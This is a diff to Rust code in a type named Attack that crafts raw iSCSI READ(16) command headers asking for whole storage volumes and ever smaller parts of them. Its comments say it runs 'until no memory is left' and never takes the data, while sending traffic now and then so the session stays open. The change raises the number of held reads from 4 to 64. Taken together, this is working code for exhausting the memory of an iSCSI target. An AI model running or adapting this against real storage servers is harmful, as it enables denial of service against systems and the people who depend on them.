@@ -112,19 +112,21 @@ impl Attack {
         std::future::pending().await
     }
 
-    /// Asks for all of all volumes, and takes nothing of it. It says something now and then, so that nobody thinks it gone.
+    /// Asks for all of all volumes and for ever smaller parts of them, until no memory is left, and takes nothing of it. It says
+    /// something now and then, so that nobody thinks it gone.
     async fn hold(&mut self, stage: &Stage) -> Result<(), Closed> {
-        for volume in stage.volumes.iter().cycle().take(READS_HELD) {
+        for (number, volume) in stage.volumes.iter().cycle().take(READS_HELD).enumerate() {
+            let blocks = (volume.blocks >> (number % 8)).max(1) as u32;
             let mut header = [0; 48];
             header[0] = 0x01;
             header[1] = 0xc1; // final, reads, simple
             header[8..10].copy_from_slice(&volume.lun.to_be_bytes());
             set_32(&mut header, 16, self.cmd_sn);
-            set_32(&mut header, 20, volume.blocks as u32 * BLOCK as u32);
+            set_32(&mut header, 20, blocks * BLOCK as u32);
             set_32(&mut header, 24, self.cmd_sn);
             set_32(&mut header, 28, self.exp_stat_sn);
             header[32] = 0x88;
-            header[42..46].copy_from_slice(&(volume.blocks as u32).to_be_bytes());
+            header[42..46].copy_from_slice(&blocks.to_be_bytes());
             self.cmd_sn = self.cmd_sn.wrapping_add(1);
             self.send(&header, &[]).await?;
         }
@@ -261,8 +263,8 @@ impl Attack {
     }
 }
 
-/// Enough to fill any buffer, and within the narrowest window.
-const READS_HELD: usize = 4;
+/// What finds no room in the command window is ignored.
+const READS_HELD: usize = 64;
 /// READ (16), GET LBA STATUS, READ CAPACITY (16), INQUIRY, REPORT LUNS, and one that nobody knows.
 const READS: [[u8; 16]; 6] = [
     [0x88, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0],
